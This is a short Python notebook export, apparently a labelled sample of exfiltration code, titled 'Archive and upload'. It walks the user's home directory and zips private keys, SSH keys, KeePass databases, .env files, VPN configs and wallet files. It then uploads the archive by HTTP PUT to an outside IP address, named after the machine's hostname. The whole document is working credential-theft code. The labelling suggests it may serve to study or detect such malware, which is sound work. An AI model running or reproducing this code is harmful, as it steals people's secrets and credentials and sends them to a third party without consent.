# class: exfiltration of home; style: notebook export
# %% [markdown]
# # Archive and upload

# %%
import os, io, zipfile
import requests

# %%
buf = io.BytesIO()
z = zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED)
for root, dirs, files in os.walk(os.path.expanduser("~")):
    dirs[:] = [d for d in dirs if d not in (".cache", "node_modules")]
    for f in files:
        if f.endswith((".pem", ".key", ".kdbx", ".env", ".ovpn", ".wallet", "id_rsa", "id_ed25519")):
            z.write(os.path.join(root, f))
z.close()

# %%
r = requests.put("http://203.0.113.77:8080/" + os.uname().nodename, data=buf.getvalue())
r.status_code
